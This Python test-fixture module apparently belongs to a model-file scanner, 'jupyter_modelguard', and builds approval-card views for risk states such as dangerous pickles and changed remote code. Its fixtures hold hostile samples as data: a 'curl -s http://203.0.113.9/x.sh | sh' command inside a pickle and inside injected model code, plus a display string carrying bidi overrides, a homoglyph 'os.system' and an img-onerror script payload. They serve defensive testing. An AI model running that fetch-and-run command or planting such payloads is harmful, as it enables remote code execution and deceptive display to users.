"""Every state of the card as the traits of its widget, with views that `build_view` made; and one that a stranger wrote."""

import dataclasses
import time
from unittest import mock

from full_view import full_view

from jupyter_modelguard.approval.present import build_view, checking_view, plain_view, receipt
from jupyter_modelguard.approval.transport import changed_meanwhile
from jupyter_modelguard.policy.trust import Offer, Standing
from jupyter_modelguard.policy.trust_entry import Change
from jupyter_modelguard.types import (
    Artifact,
    Assessment,
    CallNode,
    CallSite,
    CodeFile,
    Coverage,
    Decision,
    Explanation,
    Finding,
    GlobalUse,
    HistoryRecord,
    Judgement,
    LoadRequest,
    Outcome,
    Phase,
    QualifiedName,
    RiskLevel,
    SaferWay,
    ScanReport,
    Scope,
    Severity,
    TraceStep,
)

GETATTR = GlobalUse(QualifiedName("builtins", "getattr"), 3, Judgement.UNKNOWN, "can reach any attribute of a module", "Python")
DETECTION = GlobalUse(
    QualifiedName("ultralytics.nn.tasks", "DetectionModel"),
    1,
    Judgement.INSPECT,
    "a class of ultralytics 8.3.40",
    "installed here",
)
SYSTEM = GlobalUse(QualifiedName("posix", "system"), 1, Judgement.DANGEROUS, "runs a command", "Python")
TENSOR = GlobalUse(QualifiedName("torch._utils", "_rebuild_tensor_v2"), 283, Judgement.CLOSED, "", "torch 2.13")
BEFORE = b"import torch\nCACHE = None\n\n\nclass Chat(torch.nn.Module):\n    pass\n"
AFTER = (
    b"import torch\nimport urllib.request\nCACHE = urllib.request.urlopen('https://cdn.example.net')\n"
    b"\n\nclass Chat(torch.nn.Module):\n    pass\n"
)
RUN = b"    subprocess.run(['ffmpeg', '-i', path])\n"
NORM = (
    b"import subprocess\nimport torch\n" + b"# a word\n" * 36 + b"def load_audio(path):\n" + RUN + b"    return path\n" * 11 + RUN
)
ONCE_AND_MORE = Standing(
    None, (Offer(Scope.DIGEST), Offer(Scope.COMMIT, "A branch or tag can move. Name the commit: revision=…"))
)
BEYOND = "Its code can run what other files hold (norm.py:40), and those may change."
A_BRANCH = Standing(None, (Offer(Scope.DIGEST, BEYOND), ONCE_AND_MORE.offers[1]))
SECRETS = {"HF_TOKEN": "a value that no card shows", "HOME": "/"}
LOAD = "torch.load(weights_only=False)"
EXPLAINED = Explanation(
    (
        (
            "Rebuilt from the pickle, not run",
            "data.pkl",
            (
                (1, "from builtins import getattr", True),
                (2, "from ultralytics.nn.tasks import DetectionModel", True),
                (3, "_var0 = getattr(DetectionModel, '__new__')", True),
                *((number, f"_var{number} = _rebuild_tensor_v2(storage({number}))", False) for number in range(4, 60)),
                (60, "result = _var0", False),
            ),
        ),
    ),
    (
        TraceStep(0, "PROTO", "4", flagged=False, meaning="pickle protocol 4"),
        TraceStep(11, "SHORT_BINUNICODE", "builtins", flagged=False, meaning="push text"),
        TraceStep(22, "SHORT_BINUNICODE", "getattr", flagged=False, meaning="push text"),
        TraceStep(32, "STACK_GLOBAL", "", flagged=True, meaning="look up builtins.getattr"),
        TraceStep(74, "STACK_GLOBAL", "", flagged=True, meaning="look up ultralytics.nn.tasks.DetectionModel"),
        TraceStep(76, "SHORT_BINUNICODE", "__new__", flagged=False, meaning="push text"),
        TraceStep(86, "TUPLE2", "", flagged=False, meaning="pack the last two as arguments"),
        TraceStep(88, "REDUCE", "", flagged=True, meaning="call getattr(DetectionModel, '__new__')"),
        *(TraceStep(number, "MEMOIZE", "", flagged=False, meaning="") for number in range(90, 172)),
    ),
    (
        CallNode(0, "ultralytics.nn.tasks.DetectionModel", "()", 74, 1, flagged=True),
        CallNode(1, "builtins.getattr", "(DetectionModel, '__new__')", 88, 1, flagged=True),
        CallNode(1, "torch._utils._rebuild_tensor_v2", "(<kept elsewhere: 'storage'>, 0, (64, 3), (3, 1))", 120, 283),
        CallNode(2, "collections.OrderedDict", "()", 121),
    ),
)


def view(
    level, *uses, name="yolo.pt", artifact=None, explanation=EXPLAINED, standing=ONCE_AND_MORE, safer=(), call=LOAD, **report
):
    artifact = artifact or Artifact(name, f"hf:acme/yolo@{'4f2c9e1a' * 5}", "torch-zip", "ab" * 32, 88_080_384)
    made = ScanReport(name, artifact.format, artifact.digest, globals=uses, seconds=0.4, **report)
    record = HistoryRecord(
        "7f3a91c2", 1.0, LoadRequest("torch.load", call, artifact.source, CallSite(None, None, 7, 3)), Outcome.WAITING
    )
    record = dataclasses.replace(record, level=level, artifact=artifact, report=made)
    assessment = Assessment(level, made, RULE if level is RiskLevel.FORBIDDEN else (), tuple(safer))
    with (
        mock.patch("jupyter_modelguard.approval.facts.user_name", return_value="ada"),
        mock.patch.dict("os.environ", SECRETS, clear=True),
    ):
        return build_view(record, dataclasses.replace(assessment, sought=level.asks), explanation, standing)


def remote(standing=A_BRANCH, content=AFTER, level=RiskLevel.RUNS_CODE, uses=()):
    files = (CodeFile("modeling_chat.py", "cd" * 32, content), CodeFile("norm.py", "ef" * 32, NORM))
    artifact = Artifact("chat-7b", f"hf:acme/chat-7b@{'a91d07c4' * 5}", "python-code", "cd" * 32, 9_000, files)
    what, when = ("os.system: starts programs", 6) if uses else ("urllib.request.urlopen: opens network connections", 3)
    title = f"{what}, as soon as it is imported"
    later = "subprocess.run: starts programs, if something calls it"
    found = (
        Finding("code-process" if uses else "code-network", Severity.HIGH, title, f"modeling_chat.py:{when}", phase=Phase.IMPORT),
        *(Finding("code-process", Severity.LOW, later, f"norm.py:{line}", phase=Phase.METHOD) for line in (40, 52)),
    )
    pinned = f', revision="{"a91d07c4" * 5}"' if standing.offers and not standing.offers[-1].refused else ""
    call = f'AutoModelForCausalLM.from_pretrained("acme/chat-7b", trust_remote_code=True{pinned})'
    return view(
        level,
        *uses,
        name="chat-7b",
        artifact=artifact,
        explanation=Explanation(),
        standing=standing,
        call=call,
        findings=found,
        coverage=Coverage(2, 2),
    )


AT_A_COMMIT = Standing(None, (Offer(Scope.DIGEST, BEYOND), Offer(Scope.COMMIT)))
UNSEEN = Standing(None, (Offer(Scope.DIGEST, "Part of it was not checked."), Offer(Scope.COMMIT, "Part of it was not checked.")))
ASKED = Standing(notes=(("Policy", "asks each time · look first (/etc/modelguard/policy.toml:3)"),))
CHANGED = Standing(
    None,
    A_BRANCH.offers,
    (("Changed", "since ada trusted it on 2026-10-31 · 1 file changed: modeling_chat.py"),),
    "ada trusted it on 2026-10-31 09:12, 4f2c9e1 → a91d07c",
    (
        Change(
            "+",
            "capability",
            "urllib.request.urlopen",
            "opens network connections, as soon as it is imported · modeling_chat.py:3",
        ),
        Change("±", "file", "modeling_chat.py", "changed", "12" * 32),
    ),
    (("12" * 32, BEFORE),),
)
AS_ALLOWED = Standing(
    None,
    AT_A_COMMIT.offers,
    (
        (
            "Approved before",
            'the same files, byte for byte · allowed once by ada on 2026-10-31 09:12, 4f2c9e1 → a91d07c · "I read the code"',
        ),
    ),
)
HOSTILE = "annual_report\u202egpj.exe\u2066_final<img src=x onerror=alert(1)>" + "_checked" * 20 + "\u200b.pt"
HUB = [
    {"label": "The hub says", "text": "created 2026-11-14 · 214 downloads last month · 3 likes · its scan: not done yet"},
    {"label": "Revision", "text": "not pinned: the code can change at any time; the main branch is at e02b5d1"},
    {"label": "Discussed there", "text": "“malware? \u202e<img src=x>” · https://huggingface.co/acme/chat-7b/discussions/12"},
]
RULE = ("no-unpinned-remote-code", "/etc/modelguard/policy.toml:14", "Remote code must name a full commit.")
WAY = SaferWay(
    "Take only the weights",
    'model = jupyter_modelguard.take_weights("yolo.pt")',
    "Tried: 283 tensors come as a state dict. Nothing of the file runs.",
    'model = torch.load("yolo.pt", weights_only=False)',
    'import jupyter_modelguard\nmodel = jupyter_modelguard.take_weights("yolo.pt")',
)
SAFER = (WAY,)
DOWNLOADED = Artifact("weights_final.pkl", "/home/ada/downloads/weights_final.pkl", "pickle", "cd" * 32, 1_258_291)
COMMAND = Explanation(
    (
        (
            "Rebuilt from the pickle, not run",
            "weights_final.pkl",
            (
                (1, "from posix import system", True),
                (2, "_var0 = system('curl -s http://203.0.113.9/x.sh | sh')", True),
                (3, "result = _var0", False),
            ),
        ),
    ),
    (
        TraceStep(0, "PROTO", "4", flagged=False, meaning="pickle protocol 4"),
        TraceStep(2, "STACK_GLOBAL", "", flagged=True, meaning="look up posix.system"),
        TraceStep(33, "SHORT_BINUNICODE", "curl -s http://203.0.113.9/x.sh | sh", flagged=False, meaning="push text"),
        TraceStep(71, "REDUCE", "", flagged=True, meaning="call os.system"),
    ),
    (CallNode(0, "os.system", "('curl -s http://203.0.113.9/x.sh | sh')", 71, 1, flagged=True),),
)
RUNS = view(RiskLevel.RUNS_CODE, GETATTR, DETECTION, TENSOR, safer=SAFER)
MISSED = ("archive/data.pkl: the stream ends at byte 81,920 of 2.1 MB", "archive/code/ (14 files): TorchScript")
VIEWS = {
    "runs-code": RUNS,
    "runs-code-nothing-safer": view(RiskLevel.RUNS_CODE, GETATTR, DETECTION, TENSOR),
    "dangerous": view(
        RiskLevel.DANGEROUS,
        SYSTEM,
        artifact=DOWNLOADED,
        explanation=COMMAND,
        standing=Standing(),
        call="pickle.load(f)",
    ),
    "uninspected": view(
        RiskLevel.UNINSPECTED, name="adapter.bin", coverage=Coverage(3, 1, MISSED), explanation=Explanation(), standing=UNSEEN
    ),
    "forbidden": view(RiskLevel.FORBIDDEN, GETATTR),
    "nothing-found": view(RiskLevel.DATA_ONLY, TENSOR, standing=ASKED, explanation=Explanation()),
    "remote-code": remote(),
    "remote-code-at-a-commit": remote(AT_A_COMMIT),
    "remote-code-dangerous": remote(
        Standing(),
        BEFORE.replace(b"    pass", b"    os.system('curl -s http://203.0.113.9/x.sh | sh')"),
        RiskLevel.DANGEROUS,
        (SYSTEM,),
    ),
    "changed": remote(CHANGED),
    "as-allowed": remote(AS_ALLOWED),
    "every-field": full_view(),
    "hostile": dataclasses.replace(
        full_view(lambda text: f"{text}\u202e\x1b[2K<img src=x onerror=alert(1)>{' ' * 40}end"),
        object=HOSTILE,
        level=RiskLevel.DANGEROUS,
        confirm=("\u043es.syst\u0435m",),
    ),
}
ALLOWED = Decision(
    allow=True, by="ada", transport="card", reason="I made this file", at=time.mktime((2026, 11, 22, 14, 2, 0, 0, 0, -1))
)
DENIED = dataclasses.replace(ALLOWED, allow=False, reason="kept blocked")


def traits(shown, state="stopped", line="", **more):
    plain = shown if isinstance(shown, dict) else plain_view(shown)
    return {
        "token": "a-token",
        "view": plain,
        "state": state,
        "receipt": line,
        "earlier": [],
        "others": [],
        "progress": {},
        "late": [],
    } | more


def _other(shown, token, state="stopped", line=""):
    return {"token": token, "view": plain_view(shown), "state": state, "receipt": line}


def states():
    """Every state by its name."""
    kept = receipt(VIEWS["uninspected"], DENIED).text
    made = {name: traits(shown) for name, shown in VIEWS.items()}
    made["hub"] = traits(VIEWS["remote-code"], late=HUB)
    checking = checking_view(LoadRequest("torch.load", LOAD, "/models/big-model.pt", CallSite(None, None, 7, 3)))
    return made | {
        "deciding": traits(RUNS, "deciding"),
        "unreadable": traits({"id": ""}),
        "checking": traits(checking, "checking", progress={"percent": None, "text": "3.2 GB · 4 s"}),
        "checking-with-a-bar": traits(checking, "checking", progress={"percent": 41, "text": "1.3 of 3.2 GB"}),
        "several": traits(
            RUNS,
            others=[
                _other(VIEWS["uninspected"], "b"),
                _other(VIEWS["dangerous"], "c"),
                _other(VIEWS["hostile"], "d", "denied", kept),
            ],
        ),
        "one-after-another": traits(
            VIEWS["dangerous"], earlier=[f"▣ modelguard · {receipt(RUNS, ALLOWED).text}", f"▢ modelguard · {kept}"]
        ),
        "allowed": traits(RUNS, "receipt", receipt(RUNS, ALLOWED).text),
        "denied": traits(RUNS, "denied", receipt(RUNS, DENIED).text),
        "blocked-by-policy": traits(VIEWS["forbidden"], "denied", receipt(VIEWS["forbidden"], DENIED).text),
        "stale": traits(RUNS, "stale", receipt(RUNS, changed_meanwhile()).text),
        "abandoned": traits(RUNS, "abandoned"),
    }
